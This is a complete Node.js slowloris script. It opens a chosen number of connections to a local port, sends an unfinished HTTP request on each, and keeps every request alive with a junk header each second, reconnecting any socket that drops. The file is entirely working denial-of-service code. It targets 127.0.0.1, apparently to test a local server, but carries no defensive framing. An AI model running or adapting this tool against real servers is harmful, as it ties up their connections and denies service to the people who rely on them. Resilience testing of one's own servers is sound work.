import { connect } from "node:net";

// Connections that send a header now and then and never end their request; those that are cut off come back.
//
//     node slowloris.mjs PORT COUNT

const [port, count] = process.argv.slice(2).map(Number);

function open() {
  const socket = connect(port, "127.0.0.1", () => socket.write("GET /staff HTTP/1.1\r\nhost: x\r\n"));
  const timer = setInterval(() => socket.write("a: b\r\n"), 1000);
  socket.on("error", () => {});
  socket.on("close", () => {
    clearInterval(timer);
    setTimeout(open, 1000);
  });
}

for (let i = 0; i < count; i++) open();
